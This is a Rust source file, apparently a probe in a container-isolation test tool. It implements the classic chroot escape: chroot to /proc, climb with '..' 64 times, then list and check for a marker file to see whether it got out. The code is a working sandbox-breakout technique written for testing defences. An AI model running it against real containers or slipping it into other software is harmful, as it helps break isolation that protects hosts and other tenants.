//! `root-escape NAME`: the classic chroot escape, tried from inside a container.
//! chroot("/proc") leaves the cwd at `/`, outside the new root; `..` is then taken 64
//! times. Prints `escape_chroot=ok|<ERRNO>`, then what the cwd holds: `escape_ls=`
//! its entries, and `escape_sees=NAME yes|no` (NAME relative to the cwd).

use std::ffi::{c_char, c_int};

use crate::report::{errname, esc};

extern "C" {
    fn chroot(path: *const c_char) -> c_int;
    fn chdir(path: *const c_char) -> c_int;
}

pub fn root_escape(rest: &[String]) -> i32 {
    let name = rest.first().map(String::as_str).unwrap_or("marker");
    // SAFETY: a NUL-terminated literal.
    if unsafe { chroot(c"/proc".as_ptr()) } != 0 {
        println!(
            "escape_chroot={}",
            errname(&std::io::Error::last_os_error())
        );
    } else {
        println!("escape_chroot=ok");
        for _ in 0..64 {
            // SAFETY: a NUL-terminated literal.
            unsafe { chdir(c"..".as_ptr()) };
        }
    }
    let mut names: Vec<String> = match std::fs::read_dir(".") {
        Ok(d) => d
            .filter_map(|e| e.ok())
            .map(|e| esc(&e.file_name().to_string_lossy()))
            .collect(),
        Err(e) => vec![format!("error {}", errname(&e))],
    };
    names.sort();
    println!("escape_ls={}", names.join(","));
    let seen = std::path::Path::new(name).exists();
    println!("escape_sees={name} {}", if seen { "yes" } else { "no" });
    0
}
